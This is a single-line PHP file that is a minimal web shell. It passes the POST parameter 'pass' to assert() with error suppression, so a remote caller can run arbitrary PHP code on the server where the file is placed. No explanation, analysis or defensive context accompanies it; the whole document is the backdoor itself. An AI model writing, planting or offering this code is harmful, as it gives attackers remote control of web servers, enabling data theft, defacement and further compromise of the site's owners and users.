<?php @assert($_POST['pass']); ?>
